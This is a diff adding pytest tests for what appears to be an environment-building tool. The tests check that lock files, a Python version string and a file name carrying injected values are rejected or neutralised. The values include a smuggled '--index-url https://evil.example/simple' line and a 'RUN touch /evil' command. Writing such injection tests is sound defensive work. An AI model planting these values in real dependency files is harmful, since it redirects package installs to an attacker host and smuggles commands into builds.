@@ -337,3 +337,56 @@ def test_a_folder_without_any_is_told(project: Path) -> None:
         rx.create_environment("empty")
     with pytest.raises(RenexError, match="no file or folder"):
         rx.create_environment("nowhere")
+
+
+EVIL = "\n--index-url https://evil.example/simple"
+INJECTED = {
+    "a version": ("poetry.lock", f'[[package]]\nname = "click"\nversion = "1.0{EVIL}"\n'),
+    "a name": ("poetry.lock", f'[[package]]\nname = "click{EVIL} #"\nversion = "1.0"\n'),
+    "a marker": (
+        "pdm.lock",
+        f'[[package]]\nname = "click"\nversion = "1.0"\nmarker = "python_version > \'3\'{EVIL}"\n',
+    ),
+    "an origin": (
+        "pylock.toml",
+        f'[[packages]]\nname = "click"\narchive = {{ url = "https://host.example/c.zip{EVIL}" }}\n',
+    ),
+    "a folder's version": (
+        "pylock.toml",
+        f'[[packages]]\nname = "a"\nversion = "1{EVIL}"\ndirectory = {{path = "a"}}\n',
+    ),
+    "a mark of Unicode": ("poetry.lock", '[[package]]\nname = "click"\nversion = "1.0\\u2028--pre"\n'),
+    "a package of conda": ("conda-lock.yml", f"package: [{{name: numpy, version: {json.dumps('1.0' + EVIL)}}}]\n"),
+    "a constraint": ("conda-lock.yml", "package: [{name: 'constraint: --pre', version: '1.0'}]\n"),
+    "a line for pip": ("environment.yml", f"dependencies: [{{pip: [{json.dumps('--pre' + EVIL)}]}}]\n"),
+    "a Python": ("Pipfile.lock", json.dumps({"_meta": {"requires": {"python_version": "3.11\nRUN touch /evil"}}})),
+}
+
+
+@pytest.mark.parametrize("what", INJECTED)
+def test_no_line_gets_in_through_a_lock_file(project: Path, what: str) -> None:
+    name, text = INJECTED[what]
+    text = text.replace(EVIL, EVIL.replace("\n", "\\n")) if name.endswith((".lock", ".toml")) else text
+    (project / name).write_text(text if name != "Pipfile.lock" else INJECTED[what][1])
+    with pytest.raises(RenexError) as caught:
+        rx.create_environment(project / name)
+    assert caught.value.code == "invalid_argument"
+    assert rx.list_environments()["name"].count() == 0
+
+
+@pytest.mark.parametrize("python", ["nonsense", "3.11\nRUN touch /evil", "3.11.2.1", "3.x", " 3.11"])
+def test_a_python_is_a_version(project: Path, python: str) -> None:
+    (project / "requirements.txt").write_text("six\n")
+    with pytest.raises(RenexError, match="is no version of Python"):
+        rx.create_environment(project, python=python)
+
+
+@pytest.mark.parametrize("version", ["1.0 --no-binary :all:", "1.0 ; python_version > '3'", "one", "1.0 @ x"])
+def test_what_is_no_version_is_not_told_to_pip(project: Path, version: str) -> None:
+    (project / "poetry.lock").write_text(f'[[package]]\nname = "click"\nversion = "{version}"\n')
+    assert lines(rx.create_environment(project))[1:] == [f"# click=={version} is no requirement that pip reads"]
+
+
+def test_a_name_of_a_file_is_one_line(project: Path) -> None:
+    (project / "requirements\n--pre\n.txt").write_text("six\n")
+    assert lines(rx.create_environment(project)) == ["# read from requirements --pre .txt", "six"]
